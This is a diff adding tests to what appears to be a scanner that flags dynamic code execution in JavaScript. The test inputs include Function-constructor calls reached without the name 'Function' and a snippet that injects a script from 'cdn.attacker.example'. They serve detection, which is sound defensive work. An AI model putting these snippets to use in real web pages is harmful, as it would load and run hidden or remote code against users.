@@ -47,3 +47,25 @@ def test_global_object_idiom_methods_comments_and_callbacks_are_not_dynamic_code
     source: str,
 ) -> None:
     assert not found(source, DYN)
+
+
+def test_the_function_constructor_reached_without_its_name() -> None:
+    assert details("new Function.constructor('require', body)(require);", DYN) == {"Function"}
+    assert details("(function () {}).constructor(body)();", DYN) == {"Function"}
+    assert details("Object.getPrototypeOf(async function () {}).constructor(body);", DYN) == {
+        "Function"
+    }
+
+
+def test_a_script_element_with_a_remote_src_is_remote_code() -> None:
+    source = (
+        "var s = document.createElement('script');\n"
+        "s.src = 'https://cdn.attacker.example/v' + v + '/kit.js';\n"
+        "document.head.appendChild(s);\n"
+    )
+    assert details(source, DYN) == {"remote-script"}
+    assert details("await import('https://esm.sh/x');", DYN) == {"remote-script"}
+    image = "var i = document.createElement('img'); i.src = 'https://cdn.example/x.png';"
+    assert not found(image, DYN)
+    local = "var s = document.createElement('script'); s.src = './local.js';"
+    assert not found(local, DYN)
